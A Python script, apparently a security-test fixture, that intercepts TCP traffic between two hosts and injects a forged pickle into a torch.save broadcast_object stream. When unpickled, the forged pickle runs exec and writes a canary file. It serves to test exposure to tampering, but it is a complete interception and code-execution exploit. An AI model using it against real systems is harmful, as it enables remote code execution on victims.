"""A stranger on the path between two hosts (standard library only): it relays their TCP connections and changes
the bytes of a ``broadcast_object`` on the way.

    python data_plane_attack.py PORT DIR SENDER

Run in the attacker's host namespace, where the test redirected the victims' traffic to ``PORT`` (their routes
to each other go through this host, as ARP spoofing would make them; ``iptables ... REDIRECT`` hands the
connections to this process, which reads each one's original destination, ``SO_ORIGINAL_DST``, and connects
there itself). Every byte is passed on unchanged except in the stream leaving ``SENDER``: the first time a
``torch.save`` archive of a pickle starts there (``PK\\x03\\x04`` followed by ``data.pkl`` in its first entry's
name: ``broadcast_object``'s object), its first bytes are overwritten, length for length, with a pickle that
creates ``DIR/canary.<host>.<pid>`` when unpickled. ``DIR/tampered`` records each change; ``DIR/relayed``
each connection.
"""

from __future__ import annotations

import pickle
import socket
import struct
import sys
import threading
from pathlib import Path

SO_ORIGINAL_DST = 80  # linux/netfilter_ipv4.h
PORT, DIR, SENDER = int(sys.argv[1]), Path(sys.argv[2]), sys.argv[3]
_lock = threading.Lock()


class Canary:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        code = (f"import os, socket; open(os.path.join({str(DIR)!r}, 'canary.' + socket.gethostname() + '.' + "
                "str(os.getpid())), 'w').write('attacker code ran')")
        return exec, (code,)


FORGED = pickle.dumps(Canary(), protocol=2)


def _record(name: str, line: str) -> None:
    with _lock, open(DIR / name, "a") as f:
        f.write(line + "\n")


def _pump(src: socket.socket, dst: socket.socket, tamper: bool, label: str) -> None:
    left = b""  # forged bytes still to write over the stream (the archive spanned reads)
    done = not tamper
    try:
        while chunk := src.recv(1 << 16):
            data = bytearray(chunk)
            if left:
                n = min(len(left), len(data))
                data[:n], left = left[:n], left[n:]
            elif not done:
                at = data.find(b"PK\x03\x04")
                if at >= 0 and b"data.pkl" in data[at:at + 80]:
                    n = min(len(FORGED), len(data) - at)
                    data[at:at + n], left = FORGED[:n], FORGED[n:]
                    done = True
                    _record("tampered", f"{label}: {len(FORGED)} bytes at offset {at} of a {len(chunk)}-byte read")
            dst.sendall(data)
    except OSError:
        pass
    finally:
        for sock in (src, dst):
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def _serve(conn: socket.socket, peer: tuple[str, int]) -> None:
    raw = conn.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
    port, addr = struct.unpack_from("!H", raw, 2)[0], socket.inet_ntoa(raw[4:8])
    try:
        onward = socket.create_connection((addr, port), timeout=30)
    except OSError:
        conn.close()
        return
    onward.settimeout(None)
    label = f"{peer[0]}:{peer[1]} -> {addr}:{port}"
    _record("relayed", label)
    threading.Thread(target=_pump, args=(conn, onward, peer[0] == SENDER and port != 22, label), daemon=True).start()
    threading.Thread(target=_pump, args=(onward, conn, addr == SENDER and port != 22, label), daemon=True).start()


def main() -> None:
    server = socket.create_server(("", PORT))
    (DIR / "relaying").touch()
    while True:
        conn, peer = server.accept()
        threading.Thread(target=_serve, args=(conn, peer), daemon=True).start()


if __name__ == "__main__":
    main()
